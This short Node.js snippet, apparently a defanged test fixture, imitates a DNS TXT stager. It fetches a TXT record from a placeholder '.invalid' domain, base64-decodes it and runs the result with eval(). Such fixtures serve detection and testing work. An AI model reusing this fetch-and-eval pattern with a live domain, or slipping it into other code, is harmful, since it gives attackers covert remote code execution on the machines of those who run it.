// Mimics a DNS TXT stager: the record holds base64 code that is evaluated (defanged: .invalid name, prints only).
const dns = require('dns');
dns.resolveTxt('payload.fixture.invalid', (err, records) => {
  if (err) return;
  const code = Buffer.from(records.flat().join(''), 'base64').toString();
  eval(code);
});
